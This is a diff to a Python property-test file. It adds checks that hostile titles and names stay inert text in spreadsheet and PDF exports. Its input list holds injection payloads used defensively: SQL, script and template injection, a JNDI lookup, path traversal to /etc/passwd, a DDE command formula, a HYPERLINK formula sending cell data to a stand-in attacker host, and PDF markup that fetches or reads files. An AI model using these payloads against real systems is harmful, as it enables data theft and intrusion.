@@ -1,4 +1,5 @@
-"""Property tests (hypothesis) for hostile input: the member/group import, a page form and evidence uploads.
+"""Property tests (hypothesis) for hostile input: the member/group import, a page form, evidence uploads and the
+exports (a title or name that reads as a formula, markup or a lone surrogate in Excel and in the duty-record PDF).
 
 Over-long strings, control characters, SQL and script fragments, broken xlsx bytes, a zip bomb and images with
 wrong headers: each ends in a clear error (``DomainError`` / a form error / a row report) with nothing saved,
@@ -7,6 +8,7 @@ or is stored verbatim (never interpreted), and never in a 5xx.
 from __future__ import annotations
 
 import io
+import re
 import time
 import tracemalloc
 import zipfile
@@ -31,6 +33,9 @@ HOSTILE = [
     "'; DROP TABLE groups_member; --", "1 OR 1=1", "\" OR \"\"=\"", "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "{% debug %}", "${jndi:ldap://x}", "../../etc/passwd",
     "=CMD|' /C calc'!A0", "\u202e\u200b\ufeff", "\x00", "\x1b[31m", "\r\n\t", "𠜎𠜱𠝹", "Ｓｅｌｅｃｔ",
+    # formulas in a spreadsheet, markup and fetches in a PDF (issue 14)
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+    '<img src="http://127.0.0.1:1/x.png"/>', "<img src='/etc/passwd'/>", "a<b", "<b>粗</b>", "R&D &amp;", "x\ud800y",
 ]
 hostile_text = st.one_of(
     st.sampled_from(HOSTILE),
@@ -232,3 +237,52 @@ def test_evidence_service_refuses_random_bytes(world, _media, content):
         assert not Evidence.objects.filter(activity=activity).exists()
     else:  # random bytes that happen to be a valid image or PDF: stored under the sniffed type
         assert content.startswith(b"%PDF-") or Evidence.objects.get(activity=activity).kind == "photo"
+
+
+# --- Exports: hostile titles and names ------------------------------------------------------------------------
+
+def _storable(text: str) -> str:
+    """What a database can hold at all (no lone surrogates; PostgreSQL takes no NUL)."""
+    return re.sub("[\ud800-\udfff\x00]", "", text)
+
+
+@SETTINGS
+@given(title=hostile_text, name=hostile_text)
+def test_ledger_export_keeps_hostile_text_as_text(world, title, name):
+    """Whatever a title or group name holds, the ledger workbook has no formula and shows the text."""
+    from openpyxl import load_workbook
+
+    from groups.exports import ledger_workbook
+    from groups.models import Activity
+    from groups.selectors.activities import ledger
+    from tests.groups.factories import ActivityFactory
+
+    activity = ActivityFactory(group=world.group)
+    Activity.objects.filter(pk=activity.pk).update(title=_storable(title)[:200])  # as any door could store it
+    world.group.name = _storable(name)[:100]
+    world.group.save(update_fields=["name"])
+    out = io.BytesIO()
+    ledger_workbook(ledger(Activity.objects.filter(pk=activity.pk))).save(out)
+    cells = [c for row in load_workbook(out).active.iter_rows(min_row=2) for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))
+    activity.delete()
+
+
+@SETTINGS
+@given(title=hostile_text)
+def test_duty_record_pdf_prints_hostile_titles_without_fetching(world, title):
+    """Any title makes a PDF (never a 500, never a fetch or a file read)."""
+    from datetime import date
+    from types import SimpleNamespace
+    from unittest import mock
+
+    from assessments.pdf import duty_record_pdf
+
+    breakdown = SimpleNamespace(total=0, grade="", base=0, bonus=0, deductions=0,
+                                categories=[SimpleNamespace(category=title[:30], raw=1, cap=None, capped=1)])
+    record = SimpleNamespace(member=world.member_record, year=2026, quarter=None, breakdown=breakdown)
+    row = {"date": date(2026, 1, 2), "label": title[:50], "role": "", "title": title, "points": 1, "priced": True}
+    with mock.patch("reportlab.lib.utils.rlUrlRead", side_effect=AssertionError("fetched")):
+        content = duty_record_pdf(record, [row], [{"label": title[:30], "actual": 0, "required": 1}])
+    assert content.startswith(b"%PDF-")
